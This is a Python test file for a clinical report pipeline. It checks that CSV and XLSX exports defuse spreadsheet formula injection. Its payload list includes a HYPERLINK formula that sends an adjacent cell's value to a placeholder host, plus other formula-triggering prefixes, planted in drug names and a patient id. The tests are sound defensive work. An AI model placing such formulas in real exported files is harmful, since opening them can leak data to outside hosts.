"""CSV and XLSX cells that a spreadsheet would run as formulas are neutralised (OWASP CSV
injection): the payloads sit in drug names and patient ids of a real run, read back with the
csv module and openpyxl."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from hyposcreen.config import RunSettings, parse_window
from hyposcreen.report.safe_cells import neutralise_frame, neutralise_text
from hyposcreen.runners.in_process import run_pipeline

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_data" / "canonical"
WINDOW = ("2026-11-20T00:00:00", "2026-11-21T00:00:00")
PAYLOADS = ['=HYPERLINK("http://x?"&C2,"y")', "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_risky_text_gets_a_leading_quote(payload: str) -> None:
    assert neutralise_text(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-5.0", "+3", "-0.25", "1e-3", "Furosemide", "", "'=x", 7, -5.0])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise_text(value) == value


def test_frames_keep_numeric_columns_numeric() -> None:
    frame = pd.DataFrame({"delta": [-5.0, 2.0], "drug": ["=cmd", "-2+3"], "n": [1, -2]})
    safe = neutralise_frame(frame)
    assert safe["delta"].tolist() == [-5.0, 2.0] and safe["n"].tolist() == [1, -2]
    assert safe["drug"].tolist() == ["'=cmd", "'-2+3"]
    assert frame["drug"].tolist() == ["=cmd", "-2+3"]  # the caller's frame is not changed


@pytest.fixture(scope="module")
def injected_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample with payloads as the drug names of listed patients and as a patient id."""
    folder = tmp_path_factory.mktemp("injected")
    tables = {n: pd.read_csv(SAMPLE / f"{n}.csv", dtype=str, keep_default_na=False)
              for n in ("labs", "medications", "diagnoses", "patients")}  # fmt: skip
    meds = tables["medications"]
    for position, payload in enumerate(PAYLOADS):
        meds.loc[position, "drug_name"] = payload + " furosemide 40 mg"
    # one listed patient gets a risky id everywhere
    old = "P001"
    new = '=HYPERLINK("http://x?"&C2,"y")'
    for frame in tables.values():
        frame.loc[frame["patient_id"] == old, "patient_id"] = new
    inputs = folder / "in"
    inputs.mkdir()
    for name, frame in tables.items():
        frame.to_csv(inputs / f"{name}.csv", index=False)
    out = folder / "out"
    run_pipeline(RunSettings(input_dir=inputs, out_dir=out, window=parse_window(*WINDOW)))
    return next(out.rglob("review_list.csv")).parent


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_cell_starts_like_a_formula(injected_out: Path) -> None:
    written = {p.name: _cells(p) for p in sorted(injected_out.glob("*.csv"))}
    assert {"review_list.csv", "evidence.csv", "quarantine.csv"} <= set(written)
    everything = [c for cells in written.values() for c in cells]
    assert any(c.startswith("'=HYPERLINK") for c in everything)  # the payload is there, inert
    risky = [
        (name, c) for name, cells in written.items() for c in cells
        if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))
    ]  # fmt: skip
    assert risky == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_stores_text_as_text_and_no_formula(injected_out: Path) -> None:
    book = load_workbook(injected_out / "review_list.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.value[:1] not in ("=", "+", "@", "\t", "\r")
                    seen.append(cell.value)
    assert any(v.startswith("'=HYPERLINK") for v in seen)
    sheet = book["Review list"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["A1"].value == "Rank" and sheet["C1"].value == "Patient"
